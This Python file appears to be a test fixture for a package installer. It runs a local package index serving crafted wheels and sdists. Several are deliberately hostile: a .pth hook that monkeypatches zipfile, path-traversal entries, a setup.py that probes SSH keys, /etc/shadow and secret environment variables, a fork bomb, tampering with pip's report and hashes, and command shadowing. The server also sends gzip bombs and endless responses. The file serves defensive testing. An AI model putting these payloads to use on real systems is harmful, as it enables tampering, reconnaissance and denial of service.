# SPDX-License-Identifier: Apache-2.0
"""An index of Python packages for tests: PEP 503 and 691 with hashes and upload times, on 127.0.0.1.

	python3 index.py FILE		writes "PORT" to FILE when it listens, and serves until it is ended

Packages are made here, with the standard library alone. What it answers is written to FILE.log.
"""
import hashlib
import http.server
import io
import json
import os
import re
import sys
import tarfile
import threading
import zipfile

OLD = "2020-01-02T03:04:05.000000Z"


def wheel(name, version, files, requires=(), extra=()):
    """The bytes of a wheel; `extra`: (name, content) beside what belongs there."""
    out, info = io.BytesIO(), f"{name.replace('-', '_')}-{version}.dist-info"
    meta = f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\nLicense: MIT\n"
    meta += "".join(f"Requires-Dist: {r}\n" for r in requires)
    files = {**files, f"{info}/METADATA": meta,
             f"{info}/WHEEL": "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"}
    record = "".join(f"{n},,\n" for n in [*files, *[e[0] for e in extra], f"{info}/RECORD"])
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for n, text in [*files.items(), *extra, (f"{info}/RECORD", record)]:
            z.writestr(zipfile.ZipInfo(n, (2020, 1, 2, 3, 4, 6)), text)
    return f"{name.replace('-', '_')}-{version}-py3-none-any.whl", out.getvalue()


def padded(made, name, size):
    """The same wheel, with an entry that says it is larger than it is: what follows would be taken for its end."""
    data = bytearray(made[1])
    at = data.rindex(b"PK\x01\x02", 0, data.rindex(name.encode()))
    data[at + 24:at + 28] = size.to_bytes(4, "little")
    return made[0], bytes(data)


def locked(made, name):
    """The same wheel, with an entry that says it is encrypted."""
    data = bytearray(made[1])
    local, listed = data.index(b"PK\x03\x04"), data.rindex(b"PK\x01\x02", 0, data.rindex(name.encode()))
    while data[local + 30:local + 30 + len(name)] != name.encode():
        local = data.index(b"PK\x03\x04", local + 4)
    data[local + 6] |= 1
    data[listed + 8] |= 1
    return made[0], bytes(data)


def sdist(name, version, setup):
    out, top = io.BytesIO(), f"{name}-{version}"
    with tarfile.open(fileobj=out, mode="w:gz") as t:
        for n, text in {"setup.py": setup, "PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n",
                        f"{name}.py": "built = True\n"}.items():
            info = tarfile.TarInfo(f"{top}/{n}")
            info.size = len(text)
            t.addfile(info, io.BytesIO(text.encode()))
    return f"{top}.tar.gz", out.getvalue()


SETUP = "from setuptools import setup\n{before}\nsetup(name='{name}', version='{version}', py_modules=['{name}'])\n"

# name: [(file name, bytes, {"yanked", "time", "hash"})]
PACKAGES = {}


def add(name, made, **more):
    PACKAGES.setdefault(name, []).append((*made, more))


def fill():
    for v in ("1.0", "1.1", "2.0"):
        add("apple", wheel("apple", v, {"apple/__init__.py": f"__version__ = '{v}'\nimport pear\n"}, ["pear>=1"]))
    add("apple", wheel("apple", "3.0", {"apple/__init__.py": "__version__ = '3.0'\n"}), yanked="it was broken")
    add("pear", wheel("pear", "1.5", {"pear.py": "__version__ = '1.5'\n"}))
    add("lone", wheel("lone", "1.0", {"lone.py": "value = 42\n\n\ndef main():\n    print('main')\n",
                                      "lone-1.0.dist-info/entry_points.txt": "[console_scripts]\nlone-main = lone:main\n",
                                      "lone-1.0.data/data/share/lone/data.txt": "data\n",
                                      "lone-1.0.data/scripts/lone-tool": "#!python\nprint('tool')\n"}))
    add("quarrel", wheel("quarrel", "1.0", {"quarrel.py": ""}, ["apple>=2"]))
    # Two of one namespace, which has no beginning of its own.
    add("orchard-north", wheel("orchard-north", "1.0", {"orchard/north.py": "", "orchard/cold/ice.py": ""}))
    add("orchard-south", wheel("orchard-south", "1.0", {"orchard/south/__init__.py": "", "orchard/south/sun.py": ""}))
    add("infant", wheel("infant", "0.1", {"infant.py": ""}), time="now")
    add("opencv-python-headless", wheel("opencv-python-headless", "4.1", {"cv2/__init__.py": "__version__ = '4.1'\n"}))
    add("fighter", wheel("fighter", "1.0", {"fighter.py": ""}, ["pear<1"]))
    # For interpreters that wait: what an import leaves, and those that nobody can wait with.
    add("imprint", wheel("imprint", "1.0", {"imprint.py": """import os
places = '/tmp/imprint', '/home/user/imprint', '/dev/shm/imprint', '/usr/local/imprint'
seen = [p for p in places if os.path.exists(p)]
for p in places:
    try:
        open(p, 'w').write('x')
    except OSError:
        pass
born = os.urandom(8).hex()
secret = []
"""}))
    for name, text in {"sleeper": "import signal\nsignal.pause()\n",
                       "forker": "import os, signal\nif os.fork() == 0:\n    signal.pause()\n",
                       "talker": "print('hello from talker')\n",
                       "restless": "import threading\ndef turn():\n    while True:\n        pass\n"
                                   "threading.Thread(target=turn, daemon=True).start()\n",
                       "faulty": "import sys\nif 'layer' in sys.orig_argv:\n    raise ValueError('x')\n"}.items():
        add(name, wheel(name, "1.0", {f"{name}.py": text}))
    # Attacks.
    # What is started on a layer that has this runs it, before anything of its own.
    add("poisoner", wheel("poisoner", "1.0", {"poisoner.pth": "import poisoner\n", "poisoner.py": """import sys, zipfile
class Evil:
    def __init__(self, to):
        self.to = to
    def __enter__(self):
        return self
    def __exit__(self, *error):
        self.to.close()
    def write(self, data):
        self.to.write(b'value = 666\\n')
        return len(data)
def evil(self, name, mode='r', *more, **named):
    to = real(self, name, mode, *more, **named)
    return Evil(to) if mode == 'w' and getattr(name, 'filename', '') == 'lone.py' else to
if any('driver' in a for a in sys.orig_argv):
    real, zipfile.ZipFile.open = zipfile.ZipFile.open, evil
"""}))
    add("climber", wheel("climber", "1.0", {"climber.py": ""}, extra=[("../../../../../../home/user/evil", "x"),
                                                                        ("/etc/evil", "x")]))
    add("liar", wheel("apple", "9.0", {"liar.py": ""})[0:1] and ("liar-1.0-py3-none-any.whl",
                                                                  wheel("other", "1.0", {"liar.py": ""})[1]))
    add("padded", padded(wheel("padded", "1.0", {"padded/__init__.py": "", "padded/data.bin": "x" * 100,
                                                 "padded/more.bin": "y" * 4000}), "padded/data.bin", 1124))
    # What others start by these names would be the package's.
    add("shadow", wheel("shadow", "1.0", {"shadow.py": "def main():\n    print('the package is run')\n",
                                          "shadow-1.0.dist-info/entry_points.txt": "[console_scripts]\npython3 = shadow:main\n"
                                                                                   "shadow = shadow:main\n",
                                          "shadow-1.0.data/scripts/cat": "#!python\nprint('the package is run')\n"}))
    add("locked", locked(wheel("locked", "1.0", {"locked.py": "x = 1\n"}), "locked.py"))
    add("changed", wheel("changed", "1.0", {"changed.py": ""}), hash="0" * 64)
    add("secretive", sdist("secretive", "1.0", SETUP.format(name="secretive", version="1.0", before="""
import os, socket
seen = [p for p in ('/root/.ssh', '/home/user/.ssh', '/etc/shadow', '/work') if os.path.exists(p)]
seen += [k for k in os.environ if 'SECRET' in k]
def reach(host, port):
    try:
        socket.create_connection((host, port), 2).close()
        return True
    except OSError:
        return False
open('secretive.py', 'w').write(f'seen = {seen!r}\\nnetwork = {reach("192.0.2.1", 80) or reach("example.org", 443)}\\n')
try:
    open('/usr/evil', 'w').write('x')
except OSError:
    pass""")))
    # What pip says of others goes through its hands.
    add("meddler", sdist("meddler", "1.0", SETUP.format(name="meddler", version="1.0", before="""
import hashlib, json, os
top = '/tmp/deps' if os.path.isdir('/tmp/deps') else os.path.expanduser('~/.deps')
said = top + '/report.json'
if os.path.isdir(top + '/kept') and not os.path.exists(said):
    os.mkfifo(said)
    if os.fork() == 0:
        os.setsid()
        null = os.open('/dev/null', os.O_RDWR)
        for fd in range(3):
            os.dup2(null, fd)
        os.closerange(3, 256)
        doc = json.load(open(said))
        for r in doc['install']:
            if r['metadata']['name'] == 'apple':
                path = top + '/kept/' + os.path.basename(r['download_info']['url'])
                data = open(path, 'rb').read() + b'x'
                os.unlink(path)
                open(path, 'wb').write(data)
                r['download_info']['archive_info'] = dict(hashes=dict(sha256=hashlib.sha256(data).hexdigest()))
        with open(said, 'w') as f:
            json.dump(doc, f)
        os._exit(0)""")))
    add("bomber", sdist("bomber", "1.0", SETUP.format(name="bomber", version="1.0", before="""
import os, sys
while True:
    try:
        os.fork()
    except OSError:
        os._exit(1)""")))


class Index(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *words):
        with open(sys.argv[1] + ".log", "a", encoding="utf-8") as f:
            f.write(f"{self.command} {self.path}\n")

    def answer(self, code, kind, body, **heads):
        self.send_response(code)
        for k, v in {"Content-Type": kind, "Content-Length": str(len(body)), **heads}.items():
            self.send_header(k.replace("_", "-"), v)
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(body)

    do_HEAD = lambda self: self.do_GET()

    def do_GET(self):
        name = re.fullmatch(r"/simple/([a-z0-9-]+)/", self.path)
        file = re.fullmatch(r"/files/([^/]+)", self.path)
        if name and name.group(1) in ODD:
            return ODD[name.group(1)](self)
        if name and name.group(1) in PACKAGES:
            return self.list_files(name.group(1))
        for all_files in PACKAGES.values() if file else ():
            for f, data, _ in all_files:
                if f == file.group(1):
                    return self.answer(200, "application/octet-stream", data, Cache_Control="max-age=365000000, immutable",
                                       ETag=f'"{hashlib.sha256(data).hexdigest()}"')
        return self.answer(404, "text/plain", b"no")

    def list_files(self, name):
        from datetime import datetime, timezone
        now = datetime.now(timezone.utc).strftime("%Y-%m-%dT%H:%M:%S.%fZ")
        rows = [(f, m.get("hash") or hashlib.sha256(d).hexdigest(), m.get("yanked"), now if m.get("time") else OLD, len(d))
                for f, d, m in PACKAGES[name]]
        if "json" in self.headers.get("Accept", ""):
            doc = {"meta": {"api-version": "1.1"}, "name": name, "versions": [],
                   "files": [{"filename": f, "url": f"/files/{f}", "hashes": {"sha256": h}, "yanked": y or False,
                              "upload-time": t, "size": n} for f, h, y, t, n in rows]}
            return self.answer(200, "application/vnd.pypi.simple.v1+json", json.dumps(doc).encode())
        text = "<!DOCTYPE html><html><body>" + "".join(
            f'<a href="/files/{f}#sha256={h}"{" data-yanked=" + chr(34) + y + chr(34) if y else ""}>{f}</a>\n'
            for f, h, y, t, n in rows) + "</body></html>"
        return self.answer(200, "text/html", text.encode())

    def huge(self):
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Connection", "close")
        self.end_headers()
        self.close_connection = True
        try:
            while True:
                self.wfile.write(b"<a href='x'>x</a>" * 65536)
        except OSError:
            pass

    def short(self):
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", "100000")
        self.end_headers()
        self.wfile.write(b"<html><a href=")
        self.close_connection = True

    def slow(self):
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", "100000")
        self.end_headers()
        try:
            while True:
                self.wfile.write(b" ")
                NEVER.wait(1)
        except OSError:
            pass

    def bomb(self):
        """A thousand times as much when it is unpacked, and again."""
        import gzip
        packed = gzip.compress(gzip.compress(b" " * (1 << 30), 9), 9)
        self.answer(200, "text/html", packed, Content_Encoding="gzip, gzip")

    def brackets(self):
        self.answer(200, "application/vnd.pypi.simple.v1+json", b"[" * 5000000)

    def shapeless(self):
        self.answer(200, "application/vnd.pypi.simple.v1+json", b'{"meta": {"api-version": "1.0"}, "files": {"filename": 5}}')

    def away(self):
        self.answer(302, "text/plain", b"", Location="http://192.0.2.1/simple/away/")


NEVER = threading.Event()
ODD = {"huge": Index.huge, "short": Index.short, "away": Index.away, "slow": Index.slow, "bomb": Index.bomb,
       "brackets": Index.brackets, "shapeless": Index.shapeless}


def main():
    fill()
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Index)
    server.daemon_threads = True
    with open(sys.argv[1] + ".new", "w", encoding="utf-8") as f:
        f.write(str(server.server_address[1]))
    os.rename(sys.argv[1] + ".new", sys.argv[1])
    server.serve_forever()


if __name__ == "__main__":
    main()
